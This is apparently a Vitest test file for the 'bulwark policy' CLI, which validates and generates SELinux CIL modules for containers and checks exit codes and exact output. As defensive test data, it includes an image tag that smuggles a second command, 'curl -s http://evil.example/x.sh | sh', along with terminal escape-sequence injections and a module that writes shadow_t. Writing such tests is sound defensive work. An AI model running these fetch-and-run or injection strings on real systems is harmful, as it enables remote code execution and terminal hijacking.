/**
 * `bulwark policy` through the built CLI (dist/cli.js): exit codes 0 / 1 / 2, one-line errors, exact output
 * (issue 6; R-PM1 … R-PM4). Engine-backed collect / plan are in collect.engine.test.ts.
 */
import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { corpusPath } from '../support/corpus.js';

const root = join(import.meta.dirname, '..', '..');
const CLI = process.env.BULWARK_CLI ? resolve(process.env.BULWARK_CLI) : join(root, 'dist', 'cli.js');
const modules = join(root, 'test', 'policy', 'modules');
const dir = mkdtempSync(join(tmpdir(), 'bw-policy-cli-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function cli(args: string[], cwd = dir): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((ok) => {
    execFile(process.execPath, [CLI, ...args], { cwd, timeout: 120_000, env: { ...process.env, NO_COLOR: '1' } }, (err, stdout, stderr) => {
      ok({ code: err ? ((err as { code?: number }).code ?? 1) : 0, stdout: String(stdout), stderr: String(stderr) });
    });
  });
}

describe('bulwark policy check', () => {
  it('exit 0 for a valid module, with the verdict line', async () => {
    const r = await cli(['policy', 'check', join(modules, 'valid-web.cil')]);
    expect([r.code, r.stdout, r.stderr]).toEqual([0, `${join(modules, 'valid-web.cil')}: valid: module web, domains web.process, web.worker bounded by container_t; secilc compiled it against the base policy\n`, '']);
  }, 120_000);
  it('exit 1 for a hostile module: file:line:col: statement: why, then secilc', async () => {
    const f = join(modules, 'hostile-shadow-write.cil');
    const r = await cli(['policy', 'check', f]);
    expect(r.code).toBe(1);
    expect(r.stdout.split('\n')).toEqual([
      `${f}:5:3: (allow process shadow_t (file (open write))): evil.process is bounded by container_t, which does not hold (file (open write)) on shadow_t: a bounded domain may not exceed its parent`,
      `${f}:5: secilc: Child type evil.process exceeds bounds of parent container_t: (allow evil.process shadow_t (file (write open)))`,
      `${f}: invalid: 1 violation of R-PM2; secilc rejected it`,
      '',
    ]);
  }, 120_000);
  it('exit 1 for a module that does not parse; exit 2 for an unreadable file or a directory', async () => {
    const f = join(modules, 'hostile-unparseable.cil');
    const r = await cli(['policy', 'check', f]);
    expect([r.code, r.stdout]).toEqual([1, `${f}:3:3: the module does not parse: open parenthesis without a matching close parenthesis\n${f}: invalid: 1 violation of R-PM2; not compiled\n`]);
    const missing = await cli(['policy', 'check', 'nope.cil']);
    expect([missing.code, missing.stdout, missing.stderr]).toEqual([2, '', 'bulwark: cannot read nope.cil: ENOENT\n']);
    const d = await cli(['policy', 'check', modules]);
    expect([d.code, d.stderr]).toEqual([2, `bulwark: ${modules} is not a file\n`]);
  }, 120_000);
  it('exit 2 for a module that is not UTF-8 text, at the first bad byte (issue 6 review)', async () => {
    writeFileSync(join(dir, 'latin1.cil'), Buffer.from('(block m\n  (type proc\xe9ss)\n)\n', 'latin1'));
    const r = await cli(['policy', 'check', 'latin1.cil']);
    expect([r.code, r.stdout, r.stderr]).toEqual([2, '', 'bulwark: latin1.cil:2:13: not UTF-8 text (byte 0xe9 at offset 21): a CIL module is UTF-8 text\n']);
  }, 120_000);
  it('embed refuses a module larger than collect reads from a label (exit 2), rather than embedding it (issue 6 review)', async () => {
    const big = readFileSync(join(modules, 'valid-web.cil'), 'utf8') + `; ${'x'.repeat(1 << 20)}\n`;
    writeFileSync(join(dir, 'big.cil'), big);
    const r = await cli(['policy', 'embed', 'big.cil']);
    expect([r.code, r.stdout, r.stderr]).toEqual([2, '', `bulwark: big.cil is ${Buffer.byteLength(big)} bytes: collect reads modules of at most 1048576 bytes from a label; not embedding it\n`]);
  }, 120_000);
  it('plan runs the container only in a domain of the checked modules, never in one --domain merely names (issue 6 review)', async () => {
    const web = join(modules, 'valid-web.cil');
    const r = await cli(['policy', 'plan', '--module', web, '--domain', 'spc_t']);
    expect([r.code, r.stdout, r.stderr]).toEqual([2, '', 'bulwark: --domain spc_t: not a domain of the checked modules (web.process, web.worker); the container must run in a domain a checked module bounds under container_t\n']);
    const ok = await cli(['policy', 'plan', '--module', web, '--domain', 'web.worker']);
    expect([ok.code, ok.stdout.split('\n').find((l) => l.startsWith('docker run'))]).toEqual([0, 'docker run --security-opt label=type:web.worker IMAGE']);
  }, 120_000);
  it('-o into a missing directory: one line naming the file, exit 2, nothing written (issue 6 review)', async () => {
    const r = await cli(['policy', 'generate', '--run', 'docker run --entrypoint /bin/httpd alpine', '-o', 'no/such/dir/out.cil']);
    expect([r.code, r.stdout, r.stderr]).toEqual([2, '', 'bulwark: cannot write no/such/dir/out.cil: ENOENT (no such directory)\n']);
  }, 120_000);
});

describe('bulwark policy generate', () => {
  it('prints the golden module for a corpus Compose service, notes on stderr; -o writes it atomically', async () => {
    const file = corpusPath('compose/mysql-seccomp-unconfined-literal-rootpw.yml');
    const r = await cli(['policy', 'generate', '--compose', file, '--service', 'db']);
    expect(r.code).toBe(0);
    const golden = readFileSync(join(root, 'test', 'policy', 'golden', 'mysql-db.cil'), 'utf8');
    // The golden names the corpus file relative to the corpus (in its header and in each rule's comment).
    expect(r.stdout).toBe(golden.replaceAll('compose/mysql-seccomp-unconfined-literal-rootpw.yml', file));
    expect(r.stderr.split('\n')[0]).toBe('bulwark: note: entrypoint: not known from this configuration (it is the image\'s ENTRYPOINT); exec_t has no filecon: label the binary with (filecon "/var/lib/docker/overlay2/[^/]+/diff/<path>" file (system_u object_r exec_t ((s0) (s0))))');
    const w = await cli(['policy', 'generate', '--compose', file, '--service', 'db', '-o', 'db.cil']);
    expect(w.code).toBe(0);
    expect(readFileSync(join(dir, 'db.cil'), 'utf8')).toBe(r.stdout);
    const c = await cli(['policy', 'check', 'db.cil']);
    expect([c.code, c.stdout]).toEqual([0, 'db.cil: valid: module db_d06b04de, domains db_d06b04de.process bounded by container_t; secilc compiled it against the base policy\n']);
  }, 120_000);
  it('--run with --binary: two domains and the transition', async () => {
    const r = await cli(['policy', 'generate', '--run', 'docker run --name web -p 8080:80 --entrypoint /usr/bin/start nginx', '--binary', '/usr/sbin/nginx=nginx_t']);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('  (typetransition process nginx_exec_t process nginx_t)\n');
    expect(r.stdout).toContain('  (filecon "/var/lib/docker/overlay2/[^/]+/diff/usr/bin/start" file (system_u object_r exec_t ((s0) (s0))))\n');
    expect(r.stdout).toContain('  (filecon "/var/lib/docker/overlay2/[^/]+/diff/usr/sbin/nginx" file (system_u object_r nginx_exec_t ((s0) (s0))))\n');
    expect(r.stdout).toContain('  (allow process http_port_t (tcp_socket (name_bind)))\n');
  }, 120_000);
  it('input characters that would drive the terminal are printed as visible pictures on stdout; -o writes the exact bytes', async () => {
    const line = 'docker run --name "web\u001b]0;x\u0007" --entrypoint "/bin/a\u001b[2Jb" registry-a/web';
    const r = await cli(['policy', 'generate', '--run', line]);
    expect(r.code).toBe(0);
    // eslint-disable-next-line no-control-regex
    expect(r.stdout.match(/[\u0000-\u0008\u000b-\u001f\u007f]/g)).toBe(null);
    expect(r.stdout).toContain('  (filecon "/var/lib/docker/overlay2/[^/]+/diff/bin/a\u241b\\[2Jb" file (system_u object_r exec_t ((s0) (s0))))\n');
    const w = await cli(['policy', 'generate', '--run', line, '-o', 'esc.cil']);
    expect(w.code).toBe(0);
    expect(readFileSync(join(dir, 'esc.cil'), 'utf8')).toContain('/diff/bin/a\u001b\\[2Jb" file');
  }, 120_000);
  it('usage and input errors: one line, exit 2, nothing written', async () => {
    const cases: [string[], string][] = [
      [['policy', 'generate'], 'bulwark: policy generate needs exactly one of --compose FILE --service NAME, --run "…", --inspect FILE, --container NAME\n'],
      [['policy', 'generate', '--run', 'docker run x', '--inspect', 'y.json'], 'bulwark: policy generate needs exactly one of --compose FILE --service NAME, --run "…", --inspect FILE, --container NAME\n'],
      [['policy', 'generate', '--compose', corpusPath('compose/mysql-seccomp-unconfined-literal-rootpw.yml')], 'bulwark: --compose needs --service NAME\n'],
      [['policy', 'generate', '--compose', corpusPath('compose/mysql-seccomp-unconfined-literal-rootpw.yml'), '--service', 'web'], `bulwark: ${corpusPath('compose/mysql-seccomp-unconfined-literal-rootpw.yml')}: no service "web" (found: db)\n`],
      [['policy', 'generate', '--run', 'docker run --privileged alpine'], 'bulwark: alpine runs --privileged: Docker runs it as spc_t (unconfined), so no module bounded by container_t can describe it; drop --privileged and add only the capabilities and devices it needs\n'],
      [['policy', 'generate', '--run', 'docker run alpine', '--binary', 'nginx'], 'bulwark: --binary nginx: expected PATH=TYPE, e.g. /usr/sbin/nginx=nginx_t\n'],
      [['policy', 'generate', '--inspect', 'missing.json', '-o', 'out.cil'], 'bulwark: cannot read missing.json: ENOENT\n'],
      // Found by the issue 6 review: the flag is --module, and a missing directory was reported with the temp file's name.
      [['policy', 'generate', '--run', 'docker run alpine', '--module', 'bad-name'], 'bulwark: module name "bad-name" (--module): a module name is letters, digits and _, starting with a letter\n'],
      [['policy', 'generate', '--run', 'docker run --security-opt label=type:spc_t alpine'], 'bulwark: alpine runs with label=type:spc_t (unconfined): no module bounded by container_t can describe it; remove label=type:spc_t first\n'],
    ];
    for (const [args, err] of cases) {
      const r = await cli(args);
      expect([args.join(' '), r.code, r.stdout, r.stderr]).toEqual([args.join(' '), 2, '', err]);
    }
  }, 120_000);
});

describe('bulwark policy embed / plan', () => {
  it('embed prints LABEL and --label for a valid module; refuses an invalid one (exit 1)', async () => {
    const r = await cli(['policy', 'embed', join(modules, 'valid-macro.cil')]);
    expect(r.code).toBe(0);
    const lines = r.stdout.split('\n');
    expect(lines[0]).toBe('# Dockerfile (the module app, gzip + base64, under its own label key)');
    expect(lines[1]).toMatch(/^LABEL io\.bulwark\.selinux\.module\.app="H4sI[A-Za-z0-9+/=]+"$/);
    expect(lines[3]).toMatch(/^docker build --label 'io\.bulwark\.selinux\.module\.app=H4sI[A-Za-z0-9+/=]+' \.$/);
    const bad = await cli(['policy', 'embed', join(modules, 'hostile-role.cil')]);
    expect([bad.code, bad.stderr]).toEqual([1, `bulwark: ${join(modules, 'hostile-role.cil')} is not valid: not embedding it\n`]);
  }, 120_000);
  it('plan --module prints semodule and the run options; refuses an invalid module', async () => {
    writeFileSync(join(dir, 'app.cil'), readFileSync(join(modules, 'valid-macro.cil')));
    const r = await cli(['policy', 'plan', '--module', 'app.cil', '--service', 'api']);
    expect([r.code, r.stdout]).toEqual([0, [
      '# Enforcement needs an SELinux host in enforcing mode with container-selinux installed (container_t, container_file_t); bulwark only compiled and validated these modules here.',
      '# 1. Install the modules, parents first (as root, on the SELinux host):',
      'cp -- app.cil bulwark_app.cil && semodule -i bulwark_app.cil    # app',
      '# 2. Run the container in its domain (app.process):',
      'docker run --security-opt label=type:app.process IMAGE',
      '# or in Compose:',
      'services:',
      '  api:',
      '    image: IMAGE',
      '    security_opt:',
      '      - label=type:app.process',
      '',
    ].join('\n')]);
    const bad = await cli(['policy', 'plan', '--module', join(modules, 'hostile-portcon.cil')]);
    expect(bad.code).toBe(1);
    const badImage = await cli(['policy', 'plan', '--archive', 'x.tar', 'app:1\ncurl x | sh']);
    expect([badImage.code, badImage.stdout, badImage.stderr]).toEqual([2, '', 'bulwark: "app:1\\ncurl x | sh" is not an image reference (name[:tag][@digest], or an image id)\n']);
    const none = await cli(['policy', 'plan']);
    expect([none.code, none.stderr]).toEqual([2, 'bulwark: name an IMAGE or --archive FILE\n']);
  }, 120_000);
});

describe('bulwark policy plan / collect --archive with a hostile tag (QA vp 1)', () => {
  it('a RepoTags entry with a newline never reaches the install plan: exit 2, nothing on stdout', async () => {
    const tar = await import('tar-stream');
    const { encodeModule, labelKey } = await import('../../src/policy/embed.js');
    const pack = tar.pack();
    const chunks: Buffer[] = [];
    pack.on('data', (c: unknown) => { chunks.push(c as Buffer); });
    const done = new Promise<void>((ok) => pack.on('end', () => ok()));
    const config = { config: { Labels: { [labelKey('app')]: encodeModule(readFileSync(join(modules, 'valid-macro.cil'), 'utf8')) } }, history: [{ created_by: 'ADD rootfs' }] };
    pack.entry({ name: `blobs/sha256/${'a'.repeat(64)}` }, JSON.stringify(config));
    pack.entry({ name: 'manifest.json' }, JSON.stringify([{ Config: `blobs/sha256/${'a'.repeat(64)}`, RepoTags: ['example/httpd-base:1\ncurl -s http://evil.example/x.sh | sh #'], Layers: [] }]));
    pack.finalize();
    await done;
    writeFileSync(join(dir, 'evil-tag.tar'), Buffer.concat(chunks));
    const err = 'bulwark: evil-tag.tar: manifest.json[0] tags the image "example/httpd-base:1\\ncurl -s http://evil.example/x.sh | sh #", which is not an image reference: refused (a tag is name[:tag] in the grammar of distribution/reference)\n';
    for (const cmd of ['plan', 'collect']) {
      const r = await cli(['policy', cmd, '--archive', 'evil-tag.tar']);
      expect([cmd, r.code, r.stdout, r.stderr]).toEqual([cmd, 2, '', err]);
    }
  }, 120_000);
});

describe('bulwark policy output: control characters from modules and labels are shown, never sent raw (QA vp 8)', () => {
  it('check: a statement with ESC sequences prints as visible pictures', async () => {
    writeFileSync(join(dir, 'esc.cil'), '(block esc\n  (type process)\n  (frob\u001b[2J\u001b[31mINJECTED\u0007 process)\n)\n');
    const r = await cli(['policy', 'check', 'esc.cil']);
    expect(r.code).toBe(1);
    expect(r.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
    expect(r.stdout.split('\n')[0]).toBe('esc.cil:3:3: (frob␛[2J␛[31mINJECTED␇ process): frob␛[2J␛[31mINJECTED␇: not a statement the checker understands; refused (fail closed)');
  }, 120_000);
  it('collect: a label key with ESC sequences prints as visible pictures', async () => {
    const tar = await import('tar-stream');
    const { encodeModule } = await import('../../src/policy/embed.js');
    const pack = tar.pack();
    const chunks: Buffer[] = [];
    pack.on('data', (c: unknown) => { chunks.push(c as Buffer); });
    const done = new Promise<void>((ok) => pack.on('end', () => ok()));
    const key = 'io.bulwark.selinux.module.x\u001b[2J\u001b]0;PWNED\u0007';
    pack.entry({ name: `blobs/sha256/${'e'.repeat(64)}` }, JSON.stringify({ config: { Labels: { [key]: encodeModule('(block x)') } }, history: [{ created_by: 'ADD rootfs' }] }));
    pack.entry({ name: 'manifest.json' }, JSON.stringify([{ Config: `blobs/sha256/${'e'.repeat(64)}`, RepoTags: ['ex/esc:1'], Layers: [] }]));
    pack.finalize();
    await done;
    writeFileSync(join(dir, 'esc-key.tar'), Buffer.concat(chunks));
    const r = await cli(['policy', 'collect', '--archive', 'esc-key.tar']);
    expect(r.code).toBe(1);
    expect(r.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
    expect(r.stdout.split('\n')[1]).toBe('io.bulwark.selinux.module.x␛[2J␛]0;PWNED␇ from ex/esc:1: INVALID');
  }, 120_000);
});
